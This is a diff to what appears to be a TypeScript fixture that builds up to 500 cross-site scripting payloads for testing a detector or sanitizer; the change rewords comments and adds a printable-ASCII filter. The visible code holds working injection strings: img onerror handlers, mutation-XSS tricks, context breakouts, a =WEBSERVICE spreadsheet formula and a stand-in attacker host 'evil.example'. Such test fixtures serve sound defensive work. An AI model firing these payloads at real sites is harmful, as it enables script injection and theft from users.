@@ -5,7 +5,7 @@ export const EVIL = 'https://evil.example'
 
 type Write = (js: string, url: string) => string
 
-/** Work by themselves as soon as they are taken for markup: the ones that show whether a detector detects. */
+/** Fire as soon as they are parsed as markup, so they prove that the detector works. */
 const HANDLERS: Write[] = [
   js => `<img src=x onerror=${js}>`,
   js => `<img src=x onerror="${js}" alt="">`,
@@ -75,7 +75,7 @@ const ADDRESSES: Write[] = [
   (_, url) => `//${url.slice(8)}`,
 ]
 
-/** What a cleaner of markup may turn into something else than it read. */
+/** What a sanitizer may rewrite into something it did not check. */
 const MUTATIONS: Write[] = [
   js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
   js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
@@ -120,7 +120,7 @@ const MARKDOWN: Write[] = [
   (_, url) => `\t=WEBSERVICE("${url}")`,
 ]
 
-/** Out of wherever the text was put. */
+/** Break out of wherever the text was inserted. */
 const BREAKOUTS = ['', '">', "'>", '-->', '</script>', '</title></textarea>']
 const WANTED = 500
 
@@ -138,5 +138,8 @@ export const PAYLOADS: readonly string[] = [
   .map(spell)
   .slice(0, WANTED)
 
-/** Some that work wherever markup is believed, whatever stands around them. */
+/** Printable ASCII only: public pages show invisible characters by their code points. */
+export const PLAIN = PAYLOADS.filter(payload => /^[\x20-\x7e]*$/.test(payload))
+
+/** Work wherever markup is trusted, whatever surrounds them. */
 export const BITING: readonly string[] = numbered([...HANDLERS, ...RESOURCES], ['']).map(spell)
